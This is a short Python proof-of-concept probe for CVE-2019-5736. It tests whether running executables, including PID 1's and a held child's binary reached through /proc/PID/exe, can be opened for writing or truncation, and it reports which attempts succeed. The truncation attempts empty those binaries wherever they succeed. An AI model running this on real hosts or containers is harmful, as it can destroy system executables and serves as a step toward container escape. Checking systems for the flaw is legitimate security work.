# CVE-2019-5736: keeps hold of an executable through /proc/PID/exe, waits until nobody runs it, and opens it for
# writing. Says which ways succeeded.
import errno, json, os, subprocess, sys

victims = [] if len(sys.argv) > 1 else ["/proc/self/exe", "/proc/1/exe"]
found = {}


def attempt(name, path, flags):
    try:
        os.close(os.open(path, flags))
        found[name] = "OK"
    except OSError as error:
        found[name] = errno.errorcode.get(error.errno, "?")


for victim in victims:
    attempt(f"{victim} for writing", victim, os.O_WRONLY)
    attempt(f"{victim} truncated", victim, os.O_WRONLY | os.O_TRUNC)
# The interpreter that runs this, and one that has ended by the time we come back to its file.
command = sys.argv[1:] if len(sys.argv) > 1 else [os.path.realpath("/proc/self/exe"), "-c", "input()"]
child = subprocess.Popen(command, stdin=subprocess.PIPE)
held = os.open(f"/proc/{child.pid}/exe", os.O_PATH)
target = os.readlink(f"/proc/{child.pid}/exe")
child.communicate(b"\n")
attempt("held through its end", f"/proc/self/fd/{held}", os.O_WRONLY)
print(json.dumps({"found": found, "target": target}))
